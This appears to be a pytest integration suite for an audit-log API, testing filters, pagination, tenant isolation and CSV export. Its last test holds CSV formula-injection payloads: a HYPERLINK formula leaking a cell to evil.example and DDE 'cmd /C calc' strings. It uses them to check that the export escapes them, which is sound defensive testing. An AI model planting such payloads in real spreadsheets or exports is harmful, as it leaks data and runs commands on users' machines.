"""The audit trail over HTTP: filters, pagination, tenancy, and the CSV export."""

from __future__ import annotations

import csv
import io
import uuid

import asyncpg
import orjson

from tests.api_support import Tenant, call
from tests.clients import ApiClient
from tests.integration.factories import make_audit_log


async def _seed(conn: asyncpg.Connection, tenant: Tenant, count: int = 5) -> uuid.UUID:
    entity_id = uuid.uuid4()
    for version in range(1, count + 1):
        await make_audit_log(
            conn,
            tenant.org_id,
            entity_type="maintenance_task",
            entity_id=entity_id,
            action="update" if version > 1 else "create",
            entity_version=version,
            user_id=tenant["scheduler"].user_id,
            details={"note": f'v{version}, "quoted"\nnext line'},
            user_agent='tool "x", v1\r\nsecond line',
        )
    return entity_id


async def test_every_role_lists_its_own_organizations_audit_rows_with_filters(
    api: ApiClient, tenant: Tenant, other_tenant: Tenant, conn: asyncpg.Connection
) -> None:
    entity_id = await _seed(conn, tenant)
    await _seed(conn, other_tenant)
    for role in ("admin", "tenant_admin", "scheduler", "mechanic", "auditor"):
        status, body, _ = await call(api, "GET", f"/api/v1/audit-logs?entity_id={entity_id}", tenant[role])
        assert status == 200, role
        assert len(body["items"]) == 5
        assert {item["org_id"] for item in body["items"]} == {str(tenant.org_id)}
    status, body, _ = await call(
        api, "GET", f"/api/v1/audit-logs?entity_id={entity_id}&action=create", tenant["auditor"]
    )
    assert [item["entity_version"] for item in body["items"]] == [1]
    status, body, _ = await call(api, "GET", f"/api/v1/audit-logs?entity_id={entity_id}", other_tenant["auditor"])
    assert body["items"] == []


async def test_audit_pages_newest_first_and_follow_the_cursor(
    api: ApiClient, tenant: Tenant, conn: asyncpg.Connection
) -> None:
    entity_id = await _seed(conn, tenant, count=5)
    versions: list[int] = []
    cursor = None
    while True:
        query = f"/api/v1/audit-logs?entity_id={entity_id}&limit=2" + (f"&cursor={cursor}" if cursor else "")
        status, page, _ = await call(api, "GET", query, tenant["auditor"])
        assert status == 200
        versions += [item["entity_version"] for item in page["items"]]
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert versions == [5, 4, 3, 2, 1]


async def test_bad_audit_filters_are_400(api: ApiClient, tenant: Tenant) -> None:
    for query in (
        "entity_id=nope",
        "action=explode",
        "from=2026-01-01T00:00:00",
        "from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z",
        "sort=-entity_type",
    ):
        status, body, _ = await call(api, "GET", f"/api/v1/audit-logs?{query}", tenant["auditor"])
        assert status == 400, query
        assert body["code"] == "VALIDATION_ERROR"


async def test_auditor_exports_rfc4180_csv_with_filters_in_the_file_name(
    api: ApiClient, tenant: Tenant, conn: asyncpg.Connection
) -> None:
    entity_id = await _seed(conn, tenant, count=3)
    async with api.get(
        f"/api/v1/audit-logs/export?entity_id={entity_id}&entity_type=maintenance_task", headers=tenant["auditor"].auth
    ) as response:
        raw = await response.read()
        assert response.status == 200
        assert response.headers["Content-Type"].startswith("text/csv")
        disposition = response.headers["Content-Disposition"]
    assert f"entity_id-{entity_id}" in disposition and "entity_type-maintenance_task" in disposition
    text = raw.decode()
    assert text.startswith("id,timestamp,entity_type,entity_id,action,user_id")
    assert "\r\n" in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 4
    assert [row[6] for row in rows[1:]] == ["1", "2", "3"]
    assert rows[1][9] == 'tool "x", v1\r\nsecond line'
    assert orjson.loads(rows[1][10]) == {"note": 'v1, "quoted"\nnext line'}


async def test_only_auditors_and_admins_export(api: ApiClient, tenant: Tenant) -> None:
    for role, expected in (
        ("scheduler", 403),
        ("mechanic", 403),
        ("tenant_admin", 403),
        ("admin", 200),
        ("auditor", 200),
    ):
        async with api.get("/api/v1/audit-logs/export", headers=tenant[role].auth) as response:
            await response.read()
            assert response.status == expected, role


async def test_an_empty_export_still_has_its_header_row(api: ApiClient, tenant: Tenant) -> None:
    async with api.get(
        f"/api/v1/audit-logs/export?entity_id={uuid.uuid4()}", headers=tenant["auditor"].auth
    ) as response:
        text = (await response.read()).decode()
    assert (
        text
        == ",".join(
            [
                "id",
                "timestamp",
                "entity_type",
                "entity_id",
                "action",
                "user_id",
                "entity_version",
                "request_id",
                "ip_address",
                "user_agent",
                "details",
            ]
        )
        + "\r\n"
    )


HOSTILE_USER_AGENT = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def test_export_cells_that_a_spreadsheet_would_run_are_prefixed_with_a_quote(
    api: ApiClient, tenant: Tenant, conn: asyncpg.Connection
) -> None:
    status, aircraft, _ = await call(
        api,
        "POST",
        "/api/v1/aircraft",
        tenant["scheduler"],
        json={"tail_number": "N666EV", "model": "@SUM(1+1)*cmd|' /C calc'!A0"},
        headers={"User-Agent": HOSTILE_USER_AGENT},
    )
    assert status == 201
    hostile = {"+": "+1+cmd|' /C calc'!A0", "-": "-2+3", "tab": "\t=1+1", "cr": "\r=1+1", "space": "  =1+1"}
    for name, value in hostile.items():
        await make_audit_log(
            conn,
            tenant.org_id,
            entity_type=value,
            entity_id=uuid.UUID(aircraft["id"]),
            ip_address=value,
            user_agent=f"@{name}",
            details={"notes": "=1+1", "model": value},
        )
    async with api.get(
        f"/api/v1/audit-logs/export?entity_id={aircraft['id']}", headers=tenant["auditor"].auth
    ) as response:
        assert response.status == 200
        rows = list(csv.reader(io.StringIO((await response.read()).decode(), newline="")))
    header, created, *inserted = rows
    assert created[header.index("user_agent")] == "'" + HOSTILE_USER_AGENT
    assert len(inserted) == len(hostile)
    for row, (name, value) in zip(inserted, hostile.items(), strict=True):
        assert row[header.index("entity_type")] == "'" + value, name
        assert row[header.index("ip_address")] == "'" + value, name
        assert row[header.index("user_agent")] == f"'@{name}"
        # a JSON object starts with "{": nothing in it can start the cell, so it stays parseable as is
        assert orjson.loads(row[header.index("details")]) == {"notes": "=1+1", "model": value}
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@")), cell
